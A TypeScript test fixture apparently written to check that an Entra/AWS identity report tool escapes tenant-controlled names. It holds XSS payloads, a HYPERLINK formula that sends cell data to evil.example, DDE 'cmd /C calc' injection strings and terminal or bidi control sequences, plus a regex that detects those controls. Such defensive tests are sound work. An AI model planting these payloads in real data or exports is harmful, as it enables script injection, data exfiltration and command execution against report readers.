// Hostile tenant data: names an attacker who can create a group or invite a guest can choose.
import type { Snapshot } from '../../src/model/snapshot-schema.js';

export const HOSTILE = {
  group: '<img src=x onerror="window.__pwned=1;alert(1)">',
  script: '</script><script>window.__pwned=2;alert(2)</script>',
  upn: '"><svg onload=alert(3)>@northwind.example',
  tenant: '<script>alert(4)</script> & Co',
  account: "payments-prod'><iframe src=javascript:alert(5)>",
  csv: '=HYPERLINK("http://evil.example/?"&A1,"click")',
} as const;

/** The demo with hostile names in every place a tenant controls that the reports show. */
export function makeHostile(s: Snapshot): void {
  s.entra.tenant.data!.displayName = HOSTILE.tenant;
  const rename = (from: string, to: string) => {
    for (const g of s.entra.groups.data ?? []) if (g.displayName === from) g.displayName = to;
    for (const g of s.aws.identityStore.data?.groups ?? []) if (g.displayName === from) g.displayName = to;
  };
  rename('AWS - Prod Admins', HOSTILE.group);
  rename('AWS - Dev PowerUsers', HOSTILE.script);
  rename('AWS - ReadOnly All', HOSTILE.csv);
  const user = (s.entra.users.data ?? []).find((u) => u.userPrincipalName.startsWith('alice.kim'))!;
  user.userPrincipalName = HOSTILE.upn;
  user.displayName = HOSTILE.upn;
  const account = s.aws.organization.data!.accounts.find((a) => a.id === '222222222222')!;
  account.name = HOSTILE.account;
}

/**
 * Names with line breaks: a formula on the second line of a cell (the classic DDE payload), after a
 * bare LF, a bare CR and a CRLF. Read without quoting, each would start a row of its own.
 */
export const HOSTILE_LINES = {
  lf: "X\n=cmd|' /C calc'!A0",
  cr: 'Y\r@SUM(1+1)*cmd|\' /C calc\'!A0',
  crlf: 'Z\r\n  +1+cmd|\' /C calc\'!A0\n\t-2',
} as const;

/** Characters that drive or reorder a terminal or a Markdown viewer: ESC sequences, BEL, C1, bidi controls. */
export const HOSTILE_CONTROLS = '\u001b[2J\u001b]0;pwned\u0007\u009b31m\u202egnp.exe\u2066x\u2069\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u2067\u2068';

/** The characters HOSTILE_CONTROLS may not leave as they are (a line feed is not one of them). */
export const CONTROL_OR_BIDI = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
